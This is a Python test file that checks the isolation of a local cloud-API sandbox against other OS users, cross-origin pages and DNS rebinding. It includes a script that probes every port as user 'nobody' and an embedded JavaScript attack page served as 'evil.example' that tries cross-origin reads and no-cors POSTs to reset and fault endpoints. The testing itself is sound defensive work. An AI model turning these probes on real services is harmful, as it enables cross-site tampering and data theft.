"""A sandbox is nobody else's: what another user of the machine, a page of another site, and whoever lacks the token get of it."""

from __future__ import annotations

import functools
import http.server
import json
import os
import re
import socket
import ssl
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from tests.chromium import CHROMIUM, MISSING
from tests.conftest import RunningSandbox, launch_sandbox, without_operator
from tests.sandbox.processes import listeners
from tests.waiting import PATIENCE_SECONDS

NOBODY = 65534
as_root = pytest.mark.skipif(os.getuid() != 0, reason="another user's process can be started by root only")
in_a_browser = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)
on_linux = pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="only Linux says whose a socket is")

# What a stranger tries on a port, over TCP and over TLS; it prints the first line of every answer. All is imported before the process
# becomes another user's, who cannot read this interpreter.
STRANGER = r"""
import json, os, socket, ssl, sys
asked = json.load(sys.stdin)
"127.0.0.1".encode("idna")  # loads the codec that a connection needs
if asked["user"]:
    os.setgroups([])
    os.setgid(asked["user"])
    os.setuid(asked["user"])
trusting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
for port in asked["ports"]:
    for tls in (False, True):
        for request in asked["requests"]:
            first = b""
            try:
                with socket.create_connection(("127.0.0.1", port), 5) as plain:
                    plain.settimeout(5)
                    connection = trusting.wrap_socket(plain) if tls else plain
                    connection.sendall(request.replace("PORT", str(port)).encode())
                    first = connection.recv(4096).partition(b"\r\n")[0]
            except OSError:
                pass
            print(json.dumps([port, tls, request.split(" HTTP")[0], first.decode("latin-1")]))
"""


@pytest.fixture(scope="module")
def sandbox(start_sandbox: Callable[..., RunningSandbox]) -> RunningSandbox:
    """A whole sandbox with a database in it, so that every server that there can be runs."""
    running = start_sandbox()
    running.reset()
    exports = running.exports
    headers = {"Authorization": f"Bearer {exports['TURSO_API_TOKEN']}"}
    base = f"{exports['TURSO_API_URL']}/v1/organizations/{exports['TURSO_ORGANIZATION']}"
    with httpx.Client(base_url=base, headers=headers, trust_env=False) as turso:
        turso.post("/groups", json={"name": "default", "location": "aws-eu-west-1"}).raise_for_status()
        turso.post("/databases", json={"name": "studio", "group": "default"}).raise_for_status()
    return running


def answers(ports: list[int], *requests: str, user: int = NOBODY) -> list[tuple[int, str, str]]:
    """Port, request and first line of each answer that a process of ``user`` gets."""
    task = json.dumps({"user": user, "ports": ports, "requests": requests})
    run = subprocess.run(
        [sys.executable, "-I", "-S", "-c", STRANGER], input=task, capture_output=True, text=True, check=False
    )
    assert run.returncode == 0, run.stderr
    rows = [json.loads(line) for line in run.stdout.splitlines()]
    return [(port, request, first) for port, _, request, first in rows if first]


def get(path: str, *headers: str) -> str:
    return "\r\n".join((f"GET {path} HTTP/1.1", "Host: 127.0.0.1:PORT", "Connection: close", *headers, "", ""))


def post(path: str) -> str:
    length = ("Content-Type: application/json", "Content-Length: 2")
    return "\r\n".join((f"POST {path} HTTP/1.1", "Host: 127.0.0.1:PORT", "Connection: close", *length, "", "{}"))


def port_of(url: str) -> int:
    port = urlsplit(url).port
    assert port
    return port


@on_linux
def test_every_port_of_the_sandbox_is_on_loopback(sandbox: RunningSandbox) -> None:
    addresses = listeners(sandbox.process.pid)
    assert len(addresses) > 15
    assert {host for host, _ in addresses} <= {"127.0.0.1", "::1"}


@on_linux
@as_root
def test_no_port_serves_another_user(sandbox: RunningSandbox) -> None:
    ports = sorted(port for _, port in listeners(sandbox.process.pid))
    paths = (
        "/",
        "/exports",
        "/dir/status",
        "/status",
        "/ui/index.html",
        "/buckets/",
        "/v1/namespaces",
        "/metrics",
        "/health",
        "/version",
    )
    got = answers(ports, *(get(path) for path in paths), post("/v2/pipeline"), post("/reset"))
    served = [row for row in got if re.match(r"HTTP/1\.. [23]", row[2])]
    assert served == []


@on_linux
@as_root
@pytest.mark.parametrize(
    "variable",
    [
        "DEPLOYBOOK_SANDBOX_URL",
        "CLOUDFLARE_API_URL",
        "R2_ENDPOINT_URL",
        "TURSO_API_URL",
        "MODAL_SERVER_URL",
        "VERCEL_API_URL",
        "RENDER_API_URL",
        "GITHUB_API_URL",
    ],
)
def test_a_cloud_says_not_a_word_to_another_user_even_with_the_right_token(
    sandbox: RunningSandbox, variable: str
) -> None:
    token = sandbox.exports["DEPLOYBOOK_SANDBOX_TOKEN"]
    request = get("/exports", f"Authorization: Bearer {token}")
    port = port_of(sandbox.exports[variable])
    assert answers([port], request) == []
    assert answers([port], request, user=0), "the same request of this user is answered"


@on_linux
@as_root
def test_a_stranger_who_hangs_up_at_once_has_done_nothing(sandbox: RunningSandbox) -> None:
    sandbox.control.delete("/journal")
    port = port_of(sandbox.exports["RENDER_API_URL"])
    request = get("/v1/owners").replace("PORT", str(port)).encode()
    hanging_up = f"""
import os, socket
"127.0.0.1".encode("idna")
os.setgroups([]), os.setgid({NOBODY}), os.setuid({NOBODY})
for _ in range(200):
    with socket.create_connection(("127.0.0.1", {port})) as connection:
        connection.sendall({request!r})
"""
    subprocess.run([sys.executable, "-I", "-S", "-c", hanging_up], check=False, stderr=subprocess.DEVNULL)
    sandbox.control.get("/scenarios").raise_for_status()
    assert sandbox.journal("render") == []


@on_linux
def test_files_and_sockets_are_this_users_alone_whatever_the_umask() -> None:
    former = os.umask(0)
    try:
        running = launch_sandbox("r2", "cloudflare", "turso", "modal")
    finally:
        os.umask(former)
    try:
        directory = Path(running.exports["DEPLOYBOOK_SANDBOX_DIRECTORY"])
        ports = {str(port) for _, port in listeners(running.process.pid)}
        sockets = [path for path in Path("/tmp").glob("seaweedfs-*.sock") if path.stem.rpartition("-")[2] in ports]
        paths = [directory, *directory.rglob("*"), *sockets]
        open_to_others = [
            str(path) for path in paths if not path.is_symlink() and stat.S_IMODE(path.lstat().st_mode) & 0o077
        ]
        assert len(sockets) == 5
        assert len(paths) > 20
        assert open_to_others == []
    finally:
        running.close()


@pytest.mark.parametrize("path", ["/exports", "/journal", "/scenarios", "/faults"])
@pytest.mark.parametrize("sent", [None, "Bearer", "Bearer wrong", "Basic wrong"])
def test_the_control_api_wants_the_token_of_this_start(sandbox: RunningSandbox, path: str, sent: str | None) -> None:
    headers = {"Authorization": sent} if sent else {}
    refused = httpx.get(f"{sandbox.exports['DEPLOYBOOK_SANDBOX_URL']}{path}", headers=headers, trust_env=False)
    assert refused.status_code == 401
    assert sandbox.control.get(path).status_code == 200


def test_two_starts_have_two_tokens(sandbox: RunningSandbox) -> None:
    other = launch_sandbox("render")
    try:
        token = other.exports["DEPLOYBOOK_SANDBOX_TOKEN"]
        assert len(token) >= 43
        refused = sandbox.control.get("/exports", headers={"Authorization": f"Bearer {token}"})
        assert refused.status_code == 401
    finally:
        other.close()


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
def test_no_simple_request_changes_the_sandbox(sandbox: RunningSandbox, kind: str) -> None:
    refused = sandbox.control.post("/faults", content="{}", headers={"Content-Type": kind})
    assert refused.status_code == 415


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://127.0.0.1:8888"])
def test_the_control_api_answers_no_page(sandbox: RunningSandbox, origin: str) -> None:
    assert sandbox.control.get("/exports", headers={"Origin": origin}).status_code == 403


@pytest.mark.parametrize(
    ("variable", "status"),
    [
        ("DEPLOYBOOK_SANDBOX_URL", 421),
        ("CLOUDFLARE_API_URL", 421),
        ("R2_ENDPOINT_URL", 400),
        ("TURSO_API_URL", 421),
        ("VERCEL_API_URL", 421),
        ("RENDER_API_URL", 421),
        ("GITHUB_API_URL", 421),
    ],
)
@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil.example:80"])
def test_a_rebound_name_is_not_served(sandbox: RunningSandbox, variable: str, status: int, host: str) -> None:
    headers = {"Host": host, "Authorization": f"Bearer {sandbox.exports['DEPLOYBOOK_SANDBOX_TOKEN']}"}
    authority = ssl.create_default_context(cafile=sandbox.exports["SSL_CERT_FILE"])
    with httpx.Client(verify=authority, trust_env=False) as client:
        refused = client.get(f"{sandbox.exports[variable].rstrip('/')}/exports", headers=headers)
    assert refused.status_code == status


class Page(http.server.BaseHTTPRequestHandler):
    """A site that is not the sandbox's: it serves one page, and takes the page's report."""

    def __init__(self, html: str, reports: list[dict[str, Any]], *rest: Any) -> None:
        self.html, self.reports = html, reports
        super().__init__(*rest)

    def do_GET(self) -> None:
        self._send(self.html.encode())

    def do_POST(self) -> None:
        self.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self._send(b"")

    def _send(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


# Reads what can be read, and sends every request that a page may send to another site without asking first.
ATTACK = """<!doctype html><script>
(async () => {
  const report = {read: [], sent: []};
  for (const url of TARGETS) {
    try { report.read.push([url, (await fetch(url)).status]); } catch (error) { report.read.push([url, "unreadable"]); }
    for (const path of ["/reset", "/faults"]) {
      try {
        const response = await fetch(new URL(path, url), {method: "POST", mode: "no-cors", body: FAULT});
        report.sent.push([url, response.type]);
      } catch (error) { report.sent.push([url, "refused"]); }
    }
  }
  await fetch(REPORT, {method: "POST", body: JSON.stringify(report)});
})();
</script>"""


@pytest.fixture
def browse(tmp_path: Path) -> Iterator[Callable[[str, list[str]], dict[str, Any]]]:
    """Open the attack on ``name``, which resolves to loopback, in a headless Chromium; what the page could do."""
    reports: list[dict[str, Any]] = []
    servers: list[http.server.ThreadingHTTPServer] = []

    def open_page(name: str, targets: list[str]) -> dict[str, Any]:
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
        servers.append(server)
        own = f"http://{name}:{server.server_port}"
        fault = json.dumps({"service": "render", "kind": "reset", "times": 1000})
        html = ATTACK.replace("TARGETS", json.dumps(targets)).replace("FAULT", json.dumps(fault))
        server.RequestHandlerClass = functools.partial(Page, html.replace("REPORT", json.dumps(f"{own}/")), reports)
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={tmp_path}"]
        flags += [f"--host-resolver-rules=MAP {name} 127.0.0.1", "--virtual-time-budget=20000", "--dump-dom"]
        environ = without_operator(os.environ) | {"HOME": str(tmp_path)}
        run = subprocess.run(
            [str(CHROMIUM), *flags, own], capture_output=True, text=True, timeout=PATIENCE_SECONDS, env=environ
        )
        assert reports, run.stderr[-2000:]
        return reports.pop()

    yield open_page
    for server in servers:
        server.shutdown()
        server.server_close()


@in_a_browser
def test_a_page_of_another_site_reads_and_changes_nothing(
    sandbox: RunningSandbox, browse: Callable[[str, list[str]], dict[str, Any]]
) -> None:
    sandbox.control.delete("/faults").raise_for_status()
    with httpx.Client(trust_env=False) as client:
        url = f"{sandbox.exports['RENDER_API_URL']}/services"
        key = {"Authorization": f"Bearer {sandbox.exports['RENDER_API_KEY']}"}
        before = client.get(url, headers=key).json()
        report = browse("evil.example", [f"{sandbox.exports['DEPLOYBOOK_SANDBOX_URL']}/exports"])
        assert [status for _, status in report["read"]] == ["unreadable"]
        assert sandbox.control.get("/faults").json() == []
        assert client.get(url, headers=key).json() == before


@in_a_browser
def test_a_page_whose_name_was_rebound_to_loopback_reads_nothing(
    sandbox: RunningSandbox, browse: Callable[[str, list[str]], dict[str, Any]]
) -> None:
    port = port_of(sandbox.exports["DEPLOYBOOK_SANDBOX_URL"])
    report = browse("evil.example", [f"http://evil.example:{port}/exports"])
    assert [status for _, status in report["read"]] == ["unreadable"]
    assert sandbox.control.get("/faults").json() == []


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::ffff:127.0.0.1"])
def test_a_process_of_this_user_is_served_however_it_spells_loopback(sandbox: RunningSandbox, host: str) -> None:
    port = port_of(sandbox.exports["RENDER_API_URL"])
    with socket.create_connection((host, port), 5) as connection:
        connection.settimeout(5)
        connection.sendall(get("/v1/owners").replace("PORT", str(port)).encode())
        assert connection.recv(4096).startswith(b"HTTP/1.1 401")


def test_an_ipv6_name_of_loopback_leads_nowhere(sandbox: RunningSandbox) -> None:
    port = port_of(sandbox.exports["DEPLOYBOOK_SANDBOX_URL"])
    with pytest.raises(ConnectionRefusedError), socket.create_connection(("::1", port), 2):
        pass
